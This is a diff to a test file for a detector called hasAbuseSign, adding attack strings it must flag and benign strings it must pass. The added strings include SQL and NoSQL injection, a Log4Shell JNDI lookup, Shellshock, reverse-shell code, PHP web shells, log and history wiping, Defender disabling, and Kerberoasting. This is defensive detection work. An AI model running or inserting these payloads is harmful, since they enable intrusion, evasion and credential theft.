@@ -36,6 +36,36 @@ describe('hasAbuseSign', () => {
     'dd if=/dev/zero of=/dev/sda bs=1M',
     'VirtualAlloc(0, size, 0x3000, 0x40)',
     'Sub Document_Open()\n  CreateObject("WScript.Shell").Run "x"\nEnd Sub',
+    '-17 or 4021=9334',
+    "' || '1'='1",
+    'GROUP BY 1,2,3,4,5',
+    'user[$ne]=x&pass[$ne]=x',
+    '<p style="behavior: url(x.htc)">',
+    `\${\${::-j}\${lower:n}di:ldap://198.51.100.23/a}`,
+    '#{3*9}',
+    '--- !ruby/object:Gem::Requirement',
+    '() { :;}; echo seen',
+    '%c0%ae%c0%ae/%c0%ae%c0%ae/conf',
+    'C:\\Windows\\repair\\sam',
+    'http://shop.example@0xc6336409/',
+    'http://3325256713',
+    '"; id',
+    '| whoami',
+    'connect(s, (struct sockaddr *)&a, sizeof a); dup2(s, 0); dup2(s, 1); execve("/bin/sh", 0, 0);',
+    '<?php $c = $_REQUEST["c"]; echo "<pre>"; system($c); ?>',
+    '<?=`$_GET[1]`?>',
+    'cat /dev/null > /var/log/auth.log',
+    'ln -sf /dev/null ~/.bash_history',
+    'cat ~/.zsh_history | grep -i password',
+    'Set-MpPreference -drtm 1',
+    'ps aux | grep -E "falcond|auditbeat|osqueryd"',
+    'reg query HKLM /f password /t REG_SZ /s',
+    'net group "Domain Admins" /domain',
+    'Invoke-Kerberoast -OutputFormat Hashcat',
+    'schtasks /create /sc onlogon /tn x /tr "powershell -w hidden -enc AAAA"',
+    "var a='QqqqqqqqZz6aQqqqqqqqZz6bQqqqqqqqZz6c'",
+    "var q=[];q[3]='x';q[4]='y';q[5]='z';".replaceAll('q', 'kqw'),
+    '$k[3].$k[11].$k[2].$k[7]'.replaceAll('$k', '$key'),
   ])('is true of an attack on a machine: %s', (passage) => {
     expect(hasAbuseSign(passage)).toBe(true)
   })
@@ -58,16 +88,47 @@ describe('hasAbuseSign', () => {
     'regsvr32 /s C:\\Windows\\System32\\msxml3.dll',
     'vssadmin delete shadows /for=D: /oldest',
     'Start-Process notepad.exe -WindowStyle Hidden',
+    'SELECT a, count(*) FROM t GROUP BY 1 ORDER BY 2',
+    'npm run build && ls -l dist',
+    'if [[ "$1" == "" || "$2" == "" ]]; then usage; fi',
+    '(/bin/sleep 5; /bin/rm -f "$tmp") &',
+    'http://127.0.0.1:8080/ and http://[::1]:8080/',
+    'https://user@git.example.org/a.git',
+    '$name = $_POST["name"]; echo htmlspecialchars($name);',
+    'tail -f /var/log/syslog | grep error',
+    'echo "done" > /var/log/backup.log',
+    'HISTSIZE=1000',
+    'reg query HKLM\\SOFTWARE\\Microsoft\\NET /v Release',
+    'net group /?',
+    "row[0]='a'; row[1]='b';",
+    `\${{ matrix.os }} and #{user.name} and {{ page.title }}`,
     'powershell -NoProfile -EncodedCommand UABvAHcAZQByAFMAaABlAGwAbABQAG8AdwBlAHIAUwBoAGUAbABs',
   ])('is false of everyday work: %s', (passage) => {
     expect(hasAbuseSign(passage)).toBe(false)
   })
 
-  it.each(['<script><a>', 'a/b; /bin/', 'socket ', '{{', 'tcpclient(', "' or ", 'curl '])(
-    'takes time that grows with the passage alone: %s',
-    async (part) => {
-      const passage = (units: number) => part.repeat(units / part.length)
-      expect(await growthOf(passage, hasAbuseSign, 20_000)).toBeLessThan(LINEAR_GROWTH)
-    },
-  )
+  it.each([
+    '<script><a>',
+    'a/b; /bin/',
+    'socket ',
+    '{{',
+    'tcpclient(',
+    "' or ",
+    'curl ',
+    'aaaaaaaa0f',
+    'connect(dup2(',
+    '$a=$_get;',
+    '$ab[1].',
+    'a[1]="";',
+    '${lower:',
+    'chr(1)||',
+    '.pgp .ppk ',
+    'schtasks /tr ',
+    '.bash_history ',
+    'falcon ',
+    '> ~',
+  ])('takes time that grows with the passage alone: %s', async (part) => {
+    const passage = (units: number) => part.repeat(units / part.length)
+    expect(await growthOf(passage, hasAbuseSign, 20_000)).toBeLessThan(LINEAR_GROWTH)
+  })
 })
